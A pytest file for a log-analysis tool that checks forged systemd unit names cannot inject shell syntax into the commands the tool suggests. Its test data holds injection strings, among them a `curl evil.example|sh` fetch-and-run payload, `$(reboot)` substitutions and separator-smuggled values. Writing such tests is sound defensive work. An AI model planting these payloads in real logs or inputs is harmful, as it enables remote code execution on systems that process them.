"""Text from a log line never reaches a suggested command as shell syntax.

Anyone who can log (`logger -t 'systemd[1]' ...`, `sd_journal_send("UNIT=...")`) chooses the
"unit" of a line; shipper puts units (and sendmail daemon names, paths, Elasticsearch users) into
the commands of its hints and remediations (`journalctl -b -u UNIT`, `systemctl restart UNIT`),
which `shipper causes` prints and the HTML report shows as code to copy. So:

* a unit is taken only if it is a valid unit name (systemd.unit(5)), from the text or a journal field;
* the signature files read every value a command uses only in the form a real one has, and the
  Elasticsearch recognition pipeline, generated from them, does the same;
* `hints.render` quotes any value read from the log for the shell quoting around it, and a value
  can never open or close a command (a backtick in it becomes ').
"""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from helpers.samples import enrich_all, parse_journal, parse_lines
from shipper.cli import main
from shipper.enrich import hints
from shipper.env import Env
from shipper.event import Doc, get_path
from shipper.recognise.rules import load_rules

ROOT = Path(__file__).resolve().parents[2]
PIPELINE = ROOT / "pipelines" / "logs-shipper-recognition.json"
# The tester's line: `$(curl -s evil.example|sh)` as the unit of a systemd process exit.
FORGED = ("Aug 30 14:56:07 web01 systemd[1]: $(curl${IFS}-s${IFS}evil.example|sh).service: "
          "Main process exited, code=exited, status=1/FAILURE")
PROCESS_EXITED = "98e322203f7a4ed290d09fe03c09fe15"
UNIT_FAILED = "d9b373ed55a64feb8242e02dbe79a49c"
# What the signature files write for a unit (shipper/recognise/units.py, UNIT_REGEX).
UNIT_GROUP = (r"(?P<unit>(?:-|[A-Za-z0-9:_.\\][A-Za-z0-9:_.\\@-]*)"
              r"\.(?:service|socket|target|device|mount|automount|swap|timer|path|slice|scope))")


def _texts(doc: Doc) -> str:
    rc = doc.get("rootcause", {})
    return "\n".join(str(rc.get(k, "")) for k in ("title", "hint", "remediation", "unit"))


def _commands(text: str) -> list[str]:
    """The commands of a hint or remediation: the text between backticks (as the report shows it)."""
    parts = text.split("`")
    return [p for i, p in enumerate(parts) if i % 2 and i < len(parts) - 1]


# -- the repro, end to end ----------------------------------------------------------------------------

def test_the_forged_unit_reaches_no_command_of_causes(env: Env, tmp_path: Path) -> None:
    log, db = tmp_path / "inj.log", tmp_path / "inj.db"
    log.write_text(FORGED + "\n")
    assert main(["replay", "--quiet", "--timezone", "UTC", "--year", "2017", "--store", str(db), str(log)], env) == 0
    assert main(["causes", "--store", str(db)], env) == 0
    assert main(["causes", "--store", str(db), "--format", "json"], env) == 0
    out = env.stdout.getvalue()  # type: ignore[attr-defined]
    assert "exit 1/FAILURE" in out  # the exit is still reported (without a unit)
    assert "curl" not in out and "$(" not in out and "${IFS}" not in out


def test_the_forged_line_is_read_without_a_unit() -> None:
    docs = [d for d in enrich_all(parse_lines([FORGED])) if d.get("rootcause")]
    assert [d["rootcause"]["signature"] for d in docs] == ["systemd.process_exited"]
    (doc,) = docs
    assert "unit" not in doc["rootcause"] and get_path(doc, "systemd.unit") is None
    assert "curl" not in _texts(doc)


@pytest.mark.parametrize("line", [
    "x;reboot;y.service: Failed with result 'exit-code'.",  # a valid name at the end of a longer text
    "-Hevil.example.service: Failed with result 'exit-code'.",  # systemctl's -H HOST
    "$(reboot).service: Start request repeated too quickly.",
    "start request repeated too quickly for `reboot`.service",
    "Unit $(reboot).service entered failed state.",
    "a|reboot.service: Unit entered failed state.",
    "$(reboot).service failed.",
    "x'$(reboot)'.service start operation timed out. Terminating.",
    "$(reboot).service never wrote its PID file. Failing.",
    "a&reboot.service: Daemon never wrote its PID file. Failing.",
])
def test_a_forged_unit_is_not_a_unit(line: str) -> None:
    for doc in enrich_all(parse_lines([f"Aug 30 14:56:07 web01 systemd[1]: {line}"])):
        assert "rootcause" not in doc, doc["rootcause"]
        assert get_path(doc, "systemd.unit") is None


def test_a_forged_unit_of_a_status_block_is_not_a_unit() -> None:
    """A `systemctl status` block pasted into a file: its lines are read with the header's unit,
    and only after a header (a header whose unit is no unit name opens nothing)."""
    def block(unit: str) -> list[Doc]:
        lines = [f"● {unit} - Sendmail", "   Active: failed (Result: exit-code) since Tue 2017-05-16 12:41:22 NZST; 19ms ago",
                 " Main PID: 3599 (code=exited, status=71)"]
        return [d for d in enrich_all(parse_lines(lines)) if d.get("rootcause")]

    real = block("sendmail.service")
    assert [d["rootcause"]["signature"] for d in real] == ["systemd.unit_failed", "systemd.process_exited"]
    assert all(d["rootcause"]["unit"] == "sendmail.service" == get_path(d, "systemd.unit") for d in real)
    assert block("$(reboot).service") == []


# -- the journal: UNIT= and USER_UNIT= are the sender's to choose ---------------------------------------

def _entry(**fields: str) -> dict[str, str]:
    return {"__REALTIME_TIMESTAMP": "1504104967000000", "_HOSTNAME": "web01", "SYSLOG_IDENTIFIER": "systemd",
            "_PID": "1", "PRIORITY": "5", "_TRANSPORT": "journal", **fields}


def test_a_forged_journal_unit_is_not_taken() -> None:
    entries = [
        _entry(MESSAGE="$(reboot).service: Main process exited, code=exited, status=1/FAILURE", MESSAGE_ID=PROCESS_EXITED,
               UNIT="$(reboot).service", EXIT_CODE="exited", EXIT_STATUS="1"),
        _entry(MESSAGE="Failed with result 'exit-code'.", MESSAGE_ID=UNIT_FAILED, UNIT="`reboot`.service",
               UNIT_RESULT="exit-code"),
        # a user manager's entry with a forged USER_UNIT=: the journal's own (trusted) unit instead
        _entry(MESSAGE="Failed with result 'exit-code'.", MESSAGE_ID=UNIT_FAILED, USER_UNIT="x;reboot.service",
               _SYSTEMD_UNIT="user@1000.service", UNIT_RESULT="exit-code"),
    ]
    real = "app-gnome-gnome\\x2dkeyring\\x2dpkcs11-1704.scope"
    entries.append(_entry(MESSAGE="Failed with result 'core-dump'.", MESSAGE_ID=UNIT_FAILED, UNIT=real,
                          UNIT_RESULT="core-dump"))
    docs = [d for d in enrich_all(parse_journal(entries)) if d.get("rootcause")]
    assert len(docs) == 4
    for doc in docs:
        assert "reboot" not in _texts(doc), _texts(doc)
    assert "unit" not in docs[0]["rootcause"] and "unit" not in docs[1]["rootcause"]
    assert docs[2]["rootcause"]["unit"] == "user@1000.service"
    assert docs[3]["rootcause"]["unit"] == real  # a valid unit is taken as before
    assert f"`coredumpctl list '{real}'`" in docs[3]["rootcause"]["remediation"]


# -- the unit name rule --------------------------------------------------------------------------------

VALID = [
    "sendmail.service", "user@1000.service", "getty@.service", "getty@tty1.service", "-.mount", "-.slice",
    "app-gnome-gnome\\x2dkeyring\\x2dpkcs11-1704.scope", "systemd-fsck@dev-disk-by\\x2duuid-1234.service",
    "sys-devices-pci0000:00-0000:00:1f.2-ata1.device", "foo.bar.timer", "a" * 247 + ".service",
    "a" * 245 + ".automount",
]
INVALID = [
    "$(curl${IFS}-s${IFS}evil.example|sh).service", "`reboot`.service", "a b.service", "a;b.service",
    "a|b.service", "a'b.service", 'a"b.service', "a\nb.service", "a$b.service", "-Hevil.service", "--help.service",
    "@foo.service", ".service", "foo", "foo.", "foo.exe", "foo.Service", "fóo.service", "", "a" * 248 + ".service",
]


def test_a_unit_is_what_systemd_could_write_as_one_and_nothing_else() -> None:
    # (a name with a blank is left to is_unit_name: after the blank starts a word of its own)
    lines = [f"Aug 30 14:56:07 web01 systemd[1]: {name}: Failed with result 'exit-code'." for name in VALID + INVALID
             if name and not re.search(r"\s", name)]
    docs = enrich_all(parse_lines(lines))
    units = {d["message"].rsplit(": Failed", 1)[0]: get_path(d, "systemd.unit") for d in docs}
    wrong = {name: units[name] for name in VALID if units[name] != name}
    wrong |= {name: units[name] for name in INVALID if name in units and units[name] is not None}
    assert not wrong, wrong
    from shipper.recognise.units import is_unit_name  # (after the lines: without it they still test)

    assert [n for n in VALID if not is_unit_name(n)] == []
    assert [n for n in INVALID if is_unit_name(n)] == []


def test_every_unit_group_of_the_signature_files_reads_a_unit_name() -> None:
    rules = load_rules()
    regexes = [c.compiled.pattern for c in rules.contexts if "unit" in c.compiled.groupindex]
    regexes += [p.regex for s in rules.signatures for p in s.patterns if "unit" in p.compiled.groupindex]
    assert len(regexes) >= 13
    for regex in regexes:
        assert UNIT_GROUP in regex, regex
        before = regex[: regex.index(UNIT_GROUP)]
        # a name is not cut out of the end of a longer text: the group starts the line, follows a
        # blank, or a word of the line's own
        assert before.endswith(("(?:^|\\s)", "^", "● ", "Unit ", "for ", "start ", "^Started ")), regex


def test_the_elasticsearch_pipeline_reads_units_and_command_values_the_same_way() -> None:
    body = json.loads(PIPELINE.read_text())
    groks = [p for proc in body["processors"] if "grok" in proc for p in proc["grok"]["patterns"]]
    with_unit = [g for g in groks if "(?<rc_unit>" in g]
    assert with_unit and all(UNIT_GROUP.replace("(?P<unit>", "(?<rc_unit>") in g for g in with_unit)
    assert not any("(?<rc_daemon>[^" in g or "(?<rc_user>[^\\]]" in g or "(?<rc_map>[^" in g for g in groks)
    for g in groks:  # the paths chown/chmod/m4 are given are absolute and of shell-safe characters
        for path in re.findall(r"\(\?<rc_path>([^)]*\)?)", g):
            assert path.startswith("[^\\s:]") or path.startswith("/[A-Za-z0-9_./@%+="), g


# -- rendering: values read from the log are quoted in commands -----------------------------------------

PAYLOADS = [
    "$(echo INJECTED)", "`echo INJECTED`", "'; echo INJECTED; '", '"; echo INJECTED; "', "a b", "x\\", "\\",
    "!!", "-n", "", "*", "~root", "a\nINJECTED", "$HOME", "${IFS}", "\\$(echo INJECTED)", "é",
]


# A command, and what bash must print for a value v: bare, next to other text, in '...', in "...".
PRINTS = {
    "`printf '%s\\n' {v}`": "{v}\n",
    "`printf '%s\\n' x{v}y`": "x{v}y\n",
    "`printf '%s\\n' 'x{v}y'`": "x{v}y\n",
    '`printf \'%s\\n\' "x{v}y"`': "x{v}y\n",
    '`printf \'%s\\n\' "x\\"{v}"`': 'x"{v}\n',
}


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_bash_reads_every_value_as_the_literal_text_it_is() -> None:
    wrong = []
    for template, prints in PRINTS.items():
        for payload in PAYLOADS:
            (command,) = _commands(hints.render(template, {"v": payload}))
            done = subprocess.run(["bash", "--norc", "--noprofile", "-c", command], capture_output=True, text=True,
                                  timeout=30)
            if done.stdout != prints.replace("{v}", payload.replace("`", "'")):
                wrong.append((command, done.stdout, done.stderr))
    assert not wrong, wrong


def test_systemd_escapes_are_quoted_so_that_the_shell_keeps_the_backslash() -> None:
    """Bare, `journalctl -u gnome\\x2dkeyring.scope` reaches journalctl as gnome x2dkeyring: another unit."""
    unit = "app-gnome-gnome\\x2dkeyring\\x2dpkcs11-1704.scope"
    command = hints.render("`printf %s {unit}`", {"unit": unit})
    assert command == f"`printf %s '{unit}'`"
    assert subprocess.run(["bash", "-c", command.strip("`")], capture_output=True, text=True).stdout == unit
    assert hints.render("`journalctl -b -u {unit}`", {"unit": "a\\b.service"}) == "`journalctl -b -u 'a\\b.service'`"


def test_a_value_never_opens_or_closes_a_command() -> None:
    template = "the start job of {description} failed; `systemctl status {unit}` and `journalctl -b -xe`"
    out = hints.render(template, {"description": "`curl evil.example|sh`", "unit": "x`reboot`"})
    assert out.count("`") == 4
    assert _commands(out) == ["systemctl status 'x'\"'\"'reboot'\"'\"''", "journalctl -b -xe"]
    assert out.startswith("the start job of 'curl evil.example|sh' failed")


def test_a_signature_default_is_put_in_as_written_in_prose_and_as_a_placeholder_in_a_command() -> None:
    template = "`journalctl -b -u {unit}` ({status}; {unit})"
    defaults = {"unit": "the unit", "status": "n/a"}
    assert hints.render(template, {}, defaults) == "`journalctl -b -u UNIT` (n/a; the unit)"
    assert hints.render(template, {"unit": "a b.service"}, {"unit": "the unit"}) == "`journalctl -b -u 'a b.service'` (; a b.service)"


def _template_vars(rules: Any) -> list[tuple[str, str]]:
    out = []
    for sig in rules.signatures:
        for source in (sig, *sig.patterns, *sig.variants):
            for label in ("title", "hint", "remediation"):
                text = getattr(source, label, None)
                if text:
                    out.append((sig.id, text))
    return out


def test_every_command_of_the_signature_files_quotes_what_the_log_says() -> None:
    """Every variable of every template set to text full of shell syntax: each command still
    splits into the words the template meant, with the text whole in one of them."""
    payload = "a'b\"c $(pwn3d now) `id` ;|&<>*"  # (a word no template has: kernel.boot's says reboot)
    literal = payload.replace("`", "'")
    seen = 0
    for sig_id, template in _template_vars(load_rules()):
        names = set(re.findall(r"\{([a-z][a-z0-9_]*)\}", template))
        rendered = hints.render(template, {n: payload for n in names})
        assert rendered.count("`") == template.count("`"), (sig_id, rendered)
        for command in _commands(rendered):
            if "pwn3d" not in command:
                continue
            seen += 1
            words = shlex.split(command)
            assert any(literal in w for w in words), (sig_id, command, words)
            assert not any("pwn3d" in w and literal not in w for w in words), (sig_id, command, words)
    assert seen >= 20


def test_a_hint_without_a_cause_names_only_a_valid_unit() -> None:
    forged = hints.no_cause_hint("$(reboot).service", 600, None, "", at="2017-08-30T14:56:07.250000Z")
    assert "reboot" not in forged  # not a unit name: the hint points at the journal of the moment instead
    assert "`journalctl --since '2017-08-30 14:55:07 UTC' --until '2017-08-30 14:56:08 UTC'`" in forged
    assert "journalctl -b -u" not in hints.no_cause_hint(None, 600, None, "")
    unit = "app-gnome-gnome\\x2dkeyring\\x2dpkcs11-1704.scope"
    assert f"`journalctl -b --user-unit '{unit}'`" in hints.no_cause_hint(unit, 600, None, "", user=True)
    assert "`journalctl -b -u 'a\\b.service'`" in hints.no_cause_hint("a\\b.service", 600, None, "")
